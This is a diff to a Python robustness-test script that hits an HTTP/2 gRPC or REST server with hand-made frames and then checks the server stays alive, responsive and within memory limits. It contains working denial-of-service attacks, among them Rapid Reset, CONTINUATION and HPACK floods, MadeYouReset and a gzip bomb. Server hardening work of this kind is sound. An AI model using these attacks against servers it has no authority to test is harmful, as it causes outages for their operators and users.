@@ -1,17 +1,17 @@
 #!/usr/bin/env python3
-"""Does to an HTTP/2 listener what nobody should, with frames made by hand, because a library would refuse to send most of them.
+"""Attacks an HTTP/2 listener with hand-made frames, as a library would refuse to send most of them.
 
     abuse.py HOST PORT PID METHOD MESSAGE
 
-METHOD is the path of a unary gRPC call, such as /pkg.Service/Method, MESSAGE a good request for it in hex ("" for an empty
-one). With `--rest`, METHOD is a path that takes POST, and MESSAGE a JSON document that it answers with 200.
+METHOD is the path of a unary gRPC method, such as /pkg.Service/Method, MESSAGE a valid request for it in hex ("" if empty).
+With `--rest`, METHOD is a path for POST, and MESSAGE a JSON document for which it returns 200.
 
-PID is the server's process. Every attack is bounded in time and frames. After each, the process has to be alive, a call
-on another connection has to be answered within two seconds, memory must not have grown by more than 96 MiB, and the
-process has to come to rest within five seconds. `--stream METHOD MESSAGE` names a bidirectional method whose answers
-follow its requests, `--answers METHOD MESSAGE` one whose answers are many MiB in all (MESSAGE of some KiB): they make the
-attacks possible that need a stream that stalls. `--only NAME` runs one attack. Prints a line for each and a summary, and
-exits with 1 where one did harm.
+PID is the server process. Every attack is bounded in time and frames. After each, the process must be alive, a call on
+another connection must succeed within two seconds, memory must not have grown by more than 96 MiB, and the process must be
+idle within five seconds. Attacks that need a stalled stream are enabled by `--stream METHOD MESSAGE`, a bidirectional
+method with a response for each request, and `--answers METHOD MESSAGE`, a method whose responses are many MiB in total
+(MESSAGE of some KiB). `--only NAME` runs one attack. Prints a line for each attack and a summary; the exit code is 1 if an
+attack succeeded.
 """
 
 import argparse
@@ -27,12 +27,12 @@ END_STREAM, END_HEADERS, ACK = 1, 4, 1
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 SETTING_TABLE, SETTING_WINDOW = 1, 4
 
-SECONDS = 5  # of one attack
-ANSWER_SECONDS = 2
-REST_SECONDS = 5
+ATTACK_S = 5
+RESPONSE_S = 2
+IDLE_S = 5
 GROWTH_MAX = 96 << 20
-# Of one processor; a server at rest does next to nothing.
-REST_SHARE = 0.1
+# The share of one processor below which a process is idle.
+IDLE_SHARE = 0.1
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -40,7 +40,7 @@ def frame(kind, flags, stream, payload=b""):
 
 
 def number(value, bits, first=0):
-    """An integer of HPACK (RFC 7541 §5.1)."""
+    """An HPACK integer (RFC 7541 §5.1)."""
     limit = (1 << bits) - 1
     if value < limit:
         return bytes((first | value,))
@@ -52,25 +52,25 @@ def number(value, bits, first=0):
 
 
 def field(name, value, first=0x00):
-    """A literal field, not indexed (first = 0x40: indexed)."""
+    """A literal field without indexing (first = 0x40: with incremental indexing)."""
     name, value = (text.encode() if isinstance(text, str) else text for text in (name, value))
     return bytes((first,)) + number(len(name), 7) + name + number(len(value), 7) + value
 
 
-def prefixed(message, packed=0):
-    return struct.pack(">BI", packed, len(message)) + message
+def prefixed(message, compressed=0):
+    return struct.pack(">BI", compressed, len(message)) + message
 
 
 class Gone(Exception):
     """The server ended the connection."""
 
 
-class Unanswered(Exception):
-    """A good call failed."""
+class CallFailed(Exception):
+    """A valid call failed."""
 
 
 class Peer:
-    def __init__(self, target, settings=(), preface=True, timeout=SECONDS):
+    def __init__(self, target, settings=(), preface=True, timeout=ATTACK_S):
         self.target = target
         self.socket = socket.create_connection(target.address, timeout=timeout)
         self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
@@ -92,7 +92,7 @@ class Peer:
             raise Gone(type(problem).__name__) from None
 
     def read(self, seconds):
-        """The next frame (kind, flags, stream, payload); None where none comes in time."""
+        """The next frame (kind, flags, stream, payload); None if none arrives in time."""
         until = time.monotonic() + seconds
         while True:
             if len(self.buffer) >= 9:
@@ -114,13 +114,13 @@ class Peer:
             except ConnectionError:
                 raise Gone("reset") from None
             finally:
-                self.socket.settimeout(SECONDS)
+                self.socket.settimeout(ATTACK_S)
             if not more:
                 raise Gone("closed")
             self.buffer += more
 
     def drain(self, seconds=0.0):
-        """Reads what is there, so that the server is not held up by its own answers; counts the kinds."""
+        """Reads received frames, so that the server is not blocked by its own output; returns the count of each kind."""
         seen = {}
         while next := self.read(seconds):
             seen[next[0]] = seen.get(next[0], 0) + 1
@@ -166,55 +166,55 @@ class Target:
             fields = file.read().rsplit(")", 1)[1].split()
         return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
 
-    def good_call(self):
-        """Seconds until a call was answered with status 0; raises where it was not."""
+    def valid_call(self):
+        """The duration of a successful call in seconds; raises if it fails."""
         try:
             return self.call_once()
         except (Gone, OSError) as problem:
-            raise Unanswered(problem) from None
+            raise CallFailed(problem) from None
 
     def call_once(self):
-        begun = time.monotonic()
-        with Peer(self, timeout=ANSWER_SECONDS) as peer:
+        start = time.monotonic()
+        with Peer(self, timeout=RESPONSE_S) as peer:
             stream = peer.call(self.message)
             last = None
             while True:
-                left = begun + ANSWER_SECONDS - time.monotonic()
+                left = start + RESPONSE_S - time.monotonic()
                 next = peer.read(left) if left > 0 else None
                 if next is None:
-                    raise Gone("no answer in time")
+                    raise Gone("no response in time")
                 kind, flags, of, payload = next
                 if of == stream and kind == RST:
                     raise Gone("the call was reset")
                 if of == stream and kind == HEADERS:
-                    last = payload  # of gRPC the trailers, of REST the only one
+                    last = payload  # the trailers for gRPC, the response headers for REST
                 if of == stream and flags & END_STREAM and kind in (DATA, HEADERS):
                     break
         if self.rest:
-            # 200 has a place of its own in the table (RFC 7541, appendix A), and stands first.
+            # `:status: 200` is in the static table (RFC 7541, appendix A) and comes first.
             if last is None or last[:1] != b"\x88":
-                raise Gone(f"another status: {last!r}")
-            return time.monotonic() - begun
-        # Servers write the status as a literal with its name in plain or in Huffman's code, its value `0` likewise.
-        plain, packed = b"grpc-status\x010", bytes.fromhex("889acac8b21234da8f") + b"\x81\x07"
-        if last is None or (plain not in last and packed not in last):
-            raise Gone(f"another status: {last!r}")
-        return time.monotonic() - begun
+                raise Gone(f"unexpected status: {last!r}")
+            return time.monotonic() - start
+        # Servers write the status as a literal; name and value `0` are plain or Huffman-coded.
+        plain, huffman = b"grpc-status\x010", bytes.fromhex("889acac8b21234da8f") + b"\x81\x07"
+        if last is None or (plain not in last and huffman not in last):
+            raise Gone(f"unexpected status: {last!r}")
+        return time.monotonic() - start
 
-    def rest_seconds(self):
-        """Seconds until the process is at rest; None where it is not in time."""
-        begun = time.monotonic()
-        while time.monotonic() - begun < REST_SECONDS:
+    def seconds_until_idle(self):
+        """Seconds until the process is idle; None if it is not in time."""
+        start = time.monotonic()
+        while time.monotonic() - start < IDLE_S:
             before = self.processor_seconds()
             time.sleep(0.5)
-            if self.processor_seconds() - before <= 0.5 * REST_SHARE:
-                return time.monotonic() - begun - 0.5
+            if self.processor_seconds() - before <= 0.5 * IDLE_SHARE:
+                return time.monotonic() - start - 0.5
         return None
 
 
 def flood(peer, make, count, batch=100, read=True):
-    """Sends frames until the server ends the connection, the count is reached or the time is over."""
-    until, sent = time.monotonic() + SECONDS, 0
+    """Sends frames until the server closes the connection, the count is reached or the time expires."""
+    until, sent = time.monotonic() + ATTACK_S, 0
     try:
         while sent < count and time.monotonic() < until:
             peer.send(b"".join(make() for _ in range(min(batch, count - sent))))
@@ -223,16 +223,16 @@ def flood(peer, make, count, batch=100, read=True):
                 peer.drain()
         peer.drain(0.2)
     except Gone as gone:
-        told = "" if peer.goaway is None else f", GOAWAY {peer.goaway}"
-        return f"{min(sent, count)} frames, then {gone}{told}"
-    return f"{min(sent, count)} frames taken" + ("" if peer.goaway is None else f", GOAWAY {peer.goaway}")
+        goaway = "" if peer.goaway is None else f", GOAWAY {peer.goaway}"
+        return f"{min(sent, count)} frames, then {gone}{goaway}"
+    return f"{min(sent, count)} frames accepted" + ("" if peer.goaway is None else f", GOAWAY {peer.goaway}")
 
 
-# Each attack is given the target; what it returns is told. What it holds open is checked while it is open: it yields.
+# Each attack yields its report while its connections are still open, so that the checks run under attack.
 
 
 def rapid_reset(target):
-    """CVE-2023-44487: calls that are opened and reset cost the server more than the caller."""
+    """CVE-2023-44487: streams that are opened and reset."""
     with Peer(target) as peer:
 
         def make():
@@ -243,7 +243,7 @@ def rapid_reset(target):
 
 
 def continuation_flood(target):
-    """CVE-2024-27316: a head without an end."""
+    """CVE-2024-27316: an endless header block."""
     with Peer(target) as peer:
         peer.open(flags=0)
         piece = field("x-a", "b" * 8000)
@@ -251,42 +251,42 @@ def continuation_flood(target):
 
 
 def empty_continuation_flood(target):
-    """The same without bytes, past limits of size."""
+    """The same with empty frames, which size limits do not count."""
     with Peer(target) as peer:
         peer.open(flags=0)
         yield flood(peer, lambda: frame(CONTINUATION, 0, 1), 200_000, 1000, read=False)
 
 
 def settings_flood(target):
-    """CVE-2019-9515: each wants an acknowledgement, and nobody reads them."""
+    """CVE-2019-9515: SETTINGS frames whose acknowledgements are not read."""
     with Peer(target) as peer:
         pair = struct.pack(">HI", SETTING_WINDOW, 65535)
         yield flood(peer, lambda: frame(SETTINGS, 0, 0, pair), 200_000, 1000, read=False)
 
 
 def ping_flood(target):
-    """CVE-2019-9512."""
+    """CVE-2019-9512: PING frames whose acknowledgements are not read."""
     with Peer(target) as peer:
         yield flood(peer, lambda: frame(PING, 0, 0, b"12345678"), 500_000, 1000, read=False)
 
 
 def empty_data_flood(target):
-    """CVE-2019-9518: frames that no window counts."""
+    """CVE-2019-9518: empty DATA frames, which flow control does not count."""
     with Peer(target) as peer:
         stream, _ = peer.open()
         yield flood(peer, lambda: frame(DATA, 0, stream), 500_000, 1000)
 
 
 def stalled_empty_data_flood(target):
-    """The same on a stream that is not read because its answers are not taken: frames must not pile up."""
+    """The same on a stream that the server does not read because its responses are not read: frames must not accumulate."""
     if not target.stream:
         return
     with Peer(target, [(SETTING_WINDOW, 0)]) as peer:
         stream, _ = peer.open(target.stream[0])
         piece = prefixed(target.stream[1])
-        # Windows are 64 KiB at the least; requests beyond that wait, and what the server holds itself fills up.
-        credit, begun = 65535, time.monotonic()
-        while time.monotonic() - begun < SECONDS / 2:
+        # The initial window is 64 KiB; send as much as the server grants, until its own buffers are full.
+        credit, start = 65535, time.monotonic()
+        while time.monotonic() - start < ATTACK_S / 2:
             while credit >= len(piece):
                 peer.send(frame(DATA, 0, stream, piece))
                 credit -= len(piece)
@@ -299,7 +299,7 @@ def stalled_empty_data_flood(target):
 
 
 def header_list_bomb(target):
-    """A head that weighs more than 64 KiB, within one that is well-formed."""
+    """Well-formed header blocks above 64 KiB."""
     with Peer(target) as peer:
         for size in (70, 1000):
             stream, _ = peer.open(flags=0)
@@ -311,36 +311,36 @@ def header_list_bomb(target):
 
 
 def hpack_bomb(target):
-    """One long field in the table, named by one byte each thousands of times."""
+    """A long field in the dynamic table, referenced thousands of times by one byte each."""
     with Peer(target) as peer:
-        until, sent = time.monotonic() + SECONDS, 0
+        until, sent = time.monotonic() + ATTACK_S, 0
         try:
             while time.monotonic() < until and sent < 500:
-                # The newest entry of the table is index 62.
+                # The newest dynamic entry has index 62.
                 entry = field("x-bomb", "a" * 3900, 0x40) if sent == 0 else b""
                 peer.open(extra=entry + b"\xbe" * 11_000, flags=END_HEADERS | END_STREAM)
                 sent += 1
                 peer.drain()
         except Gone as gone:
-            yield f"{sent} heads of 43 MB each, then {gone}"
+            yield f"{sent} header blocks of 43 MB each, then {gone}"
             return
-        yield f"{sent} heads of 43 MB each"
+        yield f"{sent} header blocks of 43 MB each"
 
 
 def table_size_flood(target):
-    """Changes of the table's size cost nothing to write."""
+    """Header blocks full of dynamic table size updates."""
     with Peer(target) as peer:
         updates = (b"\x20" + number(4096, 5, 0x20)) * 2000
         yield flood(peer, lambda: frame(HEADERS, END_HEADERS | END_STREAM, peer.open(send=False)[0], updates), 500, 1)
 
 
 def zero_window(target):
-    """Calls whose answers nobody takes."""
+    """Calls whose responses are not read."""
     with Peer(target, [(SETTING_WINDOW, 0)]) as peer:
         for _ in range(100):
             peer.call(target.message)
-        peer.drain(SECONDS / 2)
-        yield "100 answers pending"
+        peer.drain(ATTACK_S / 2)
+        yield "100 responses pending"
 
 
 def zero_windows(target):
@@ -352,14 +352,14 @@ def zero_windows(target):
             for _ in range(100):
                 peers[-1].call(target.message)
         time.sleep(1)
-        yield "2500 answers pending on 25 connections"
+        yield "2500 responses pending on 25 connections"
     finally:
         for peer in peers:
             peer.socket.close()
 
 
 def slow_readers(target):
-    """Streams whose answers nobody takes must not hold up those of others that come over the same connection."""
+    """Streams whose responses are not read must not block those of other callers."""
     if not target.answers:
         return
     method, message = target.answers
@@ -367,7 +367,7 @@ def slow_readers(target):
     try:
         for _ in range(4):
             peers.append(Peer(target, [(SETTING_WINDOW, 0)]))
-            # The window of the connection may be wider than the one that every connection begins with.
+            # The server may widen the connection window.
             peers[-1].drain(0.1)
             for _ in range(60):
                 stream, head = peers[-1].open(method, send=False)
@@ -375,10 +375,10 @@ def slow_readers(target):
                 parts = [body[at : at + 16384] for at in range(0, len(body), 16384)]
                 flags = [0] * (len(parts) - 1) + [END_STREAM]
                 peers[-1].send(head + b"".join(frame(DATA, flag, stream, part) for flag, part in zip(flags, parts)))
-        time.sleep(SECONDS / 2)
-        # Not every call goes the same way through the server.
+        time.sleep(ATTACK_S / 2)
+        # Several calls, to reach all workers of the server.
         for _ in range(8):
-            target.good_call()
+            target.valid_call()
         yield "240 streams pending"
     finally:
         for peer in peers:
@@ -386,32 +386,32 @@ def slow_readers(target):
 
 
 def window_overflow(target):
-    """More than 2^31-1, on the connection and on a stream."""
-    told = []
+    """Windows above 2^31-1, of the connection and of a stream."""
+    reports = []
     for stream in (0, 1):
         with Peer(target) as peer:
             peer.open()
             grow = frame(WINDOW, 0, stream, struct.pack(">I", 0x7FFFFFFF))
-            told.append(flood(peer, lambda: grow, 2, 2))
-    yield "; ".join(told)
+            reports.append(flood(peer, lambda: grow, 2, 2))
+    yield "; ".join(reports)
 
 
 def window_flood(target):
-    """Updates of one byte."""
+    """WINDOW_UPDATE frames of one byte."""
     with Peer(target) as peer:
         peer.open()
         yield flood(peer, lambda: frame(WINDOW, 0, 1, struct.pack(">I", 1)), 500_000, 1000)
 
 
 def priority_flood(target):
-    """CVE-2019-9513, over streams that were never opened."""
+    """CVE-2019-9513: PRIORITY frames for streams that were never opened."""
     with Peer(target) as peer:
         at = iter(range(1, 1 << 30, 2))
         yield flood(peer, lambda: frame(PRIORITY, 0, next(at), struct.pack(">IB", 0, 16)), 500_000, 1000)
 
 
 def made_you_reset(target):
-    """CVE-2025-8671: the caller makes the server reset its own streams, and the calls go on behind them."""
+    """CVE-2025-8671: invalid frames make the server reset streams while their calls continue."""
     with Peer(target) as peer:
 
         def make():
@@ -422,7 +422,7 @@ def made_you_reset(target):
 
 
 def made_you_reset_by_data(target):
-    """The same with data behind the end of a stream."""
+    """The same with DATA after the end of a stream."""
     with Peer(target) as peer:
 
         def make():
@@ -433,13 +433,13 @@ def made_you_reset_by_data(target):
 
 
 def unknown_frames(target):
-    """Frames of a kind that nobody knows have to be passed over."""
+    """Frames of an unknown type, which must be ignored."""
     with Peer(target) as peer:
         yield flood(peer, lambda: frame(0xEE, 0xFF, 0, b"x" * 100), 100_000, 1000)
 
 
 def no_preface(target):
-    """Connections that say nothing, the beginning, or something else."""
+    """Connections that send nothing, a part of the preface, or another protocol."""
     begin = [b"", PREFACE[:10], b"GET / HTTP/1.1\r\nhost: a\r\n\r\n", b"\x16\x03\x01\x02\x00\x01" + b"\0" * 100]
     peers = [Peer(target, preface=False) for _ in range(400)]
     try:
@@ -453,7 +453,7 @@ def no_preface(target):
 
 
 def slow_preface(target):
-    """A preface that comes one byte after another."""
+    """A preface sent byte by byte."""
     with Peer(target, preface=False) as peer:
         try:
             for byte in PREFACE:
@@ -462,11 +462,11 @@ def slow_preface(target):
         except Gone as gone:
             yield str(gone)
             return
-        yield "taken"
+        yield "accepted"
 
 
 def half_open(target):
-    """Calls without a message and without an end, as many as a connection may have."""
+    """Calls without message and end, as many as a connection may have."""
     peers = []
     try:
         for _ in range(20):
@@ -481,7 +481,7 @@ def half_open(target):
 
 
 def huge_prefix(target):
-    """A message that is said to be of 4 GiB must not be made room for."""
+    """Messages with a length prefix of 4 GiB, for which no memory may be allocated."""
     if target.rest:
         return
     with Peer(target) as peer:
@@ -489,11 +489,11 @@ def huge_prefix(target):
             stream, _ = peer.open()
             peer.send(frame(DATA, 0, stream, struct.pack(">BI", 0, 0xFFFFFFFF) + b"x" * 1000))
         seen = peer.drain(0.5)
-        yield f"50 calls, {seen.get(HEADERS, 0)} refused"
+        yield f"50 calls, {seen.get(HEADERS, 0)} rejected"
 
 
-def packed_bomb(target):
-    """Messages of some hundred KiB that unpack to a hundred times that and more."""
+def gzip_bomb(target):
+    """Compressed messages that decompress to a thousand times their size."""
     if target.rest:
         return
     bomb = gzip.compress(bytes(200 << 20), 9)
@@ -520,13 +520,13 @@ def packed_bomb(target):
 
 
 def never_finished(target):
-    """Ten thousand calls on one connection that are never finished."""
+    """Ten thousand unfinished calls on one connection."""
     with Peer(target) as peer:
         yield flood(peer, lambda: peer.open(send=False)[1], 10_000)
 
 
 def bad_metadata(target):
-    """Metadata outside ASCII, names that no header may have, timeouts of absurd length."""
+    """Metadata outside ASCII, invalid header names, invalid timeouts."""
     bad = [
         field("x-plain", b"\xff\xfe\x80"),
         field("x-bad-bin", b"\xff\xff"),
@@ -541,7 +541,7 @@ def bad_metadata(target):
         field(":path", "/second"),
         field("x-nul", b"a\0b"),
     ]
-    told = []
+    outcomes = []
     for extra in bad:
         with Peer(target) as peer:
             try:
@@ -550,12 +550,12 @@ def bad_metadata(target):
             except Gone:
                 seen = {}
             kinds = {HEADERS: "answered", RST: "reset", GOAWAY: "gone"}
-            told.append(next((word for kind, word in kinds.items() if kind in seen), "closed"))
-    yield ", ".join(f"{told.count(word)} {word}" for word in dict.fromkeys(told))
+            outcomes.append(next((word for kind, word in kinds.items() if kind in seen), "closed"))
+    yield ", ".join(f"{outcomes.count(word)} {word}" for word in dict.fromkeys(outcomes))
 
 
 def tiny_data(target):
-    """Frames of one byte: what waits costs more to hold than a window counts."""
+    """DATA frames of one byte, whose bookkeeping costs more memory than flow control counts."""
     if not target.stream:
         return
     peers = []
@@ -565,7 +565,7 @@ def tiny_data(target):
             peers.append(peer)
             for _ in range(16):
                 stream, _ = peer.open(target.stream[0])
-                # The rest of the message never comes. Windows are 64 KiB at the least.
+                # The message is never completed. The initial window is 64 KiB.
                 peer.send(frame(DATA, 0, stream, struct.pack(">BI", 0, 65000)) + frame(DATA, 0, stream, b"x") * 30_000)
                 peer.drain()
         yield "64 streams with 30000 frames of one byte"
@@ -601,42 +601,42 @@ ATTACKS = [
     slow_preface,
     half_open,
     huge_prefix,
-    packed_bomb,
+    gzip_bomb,
     never_finished,
     bad_metadata,
 ]
 
 
 def attempt(target, attack):
-    """What one attack did, and why it is a failure, if it is one. What it holds open is checked while it is open."""
+    """Runs an attack and the checks while its connections are open; returns the report, and the reason of a failure or None."""
     before = target.memory()
     try:
         running = attack(target)
         try:
             detail = next(running, None)
-        except Unanswered as problem:
-            return "", f"a good call failed: {problem}"
+        except CallFailed as problem:
+            return "", f"a valid call failed: {problem}"
         except Gone as gone:
-            detail = f"the connection was ended ({gone})"
+            detail = f"the connection ended ({gone})"
         if detail is None:
-            return "not possible with this method", None
+            return "not applicable to this method", None
         try:
-            took = target.good_call()
-        except Unanswered as problem:
-            return detail, f"a good call failed: {problem}"
+            took = target.valid_call()
+        except CallFailed as problem:
+            return detail, f"a valid call failed: {problem}"
         grown = target.memory() - before
-        rest = target.rest_seconds()
+        idle_after = target.seconds_until_idle()
         running.close()
     except FileNotFoundError:
-        return "", "the process is gone"
+        return "", "the process has exited"
     except OSError as problem:
         return "", f"{type(problem).__name__}: {problem}"
     detail = f"{detail}; a call took {took * 1000:.0f} ms, {grown / (1 << 20):+.1f} MiB"
     if grown > GROWTH_MAX:
         return detail, "memory grew"
-    if rest is None:
-        return detail, "the process does not come to rest"
-    return f"{detail}, at rest after {rest:.1f} s", None
+    if idle_after is None:
+        return detail, "the process does not become idle"
+    return f"{detail}, idle after {idle_after:.1f} s", None
 
 
 def main():
@@ -652,19 +652,19 @@ def main():
     parser.add_argument("--only", action="append")
     arguments = parser.parse_args()
     target = Target(arguments)
-    target.good_call()
+    target.valid_call()
     passed = failed = 0
     for attack in ATTACKS:
         name = attack.__name__.replace("_", "-")
         if arguments.only and name not in arguments.only:
             continue
-        detail, why = attempt(target, attack)
-        if why is None:
+        detail, reason = attempt(target, attack)
+        if reason is None:
             passed += 1
             print(f"ok {name} {detail}", flush=True)
         else:
             failed += 1
-            print(f"FAIL {name} {why} ({detail})", flush=True)
+            print(f"FAIL {name} {reason} ({detail})", flush=True)
     print(f"{passed} passed, {failed} failed")
     return 1 if failed else 0
 
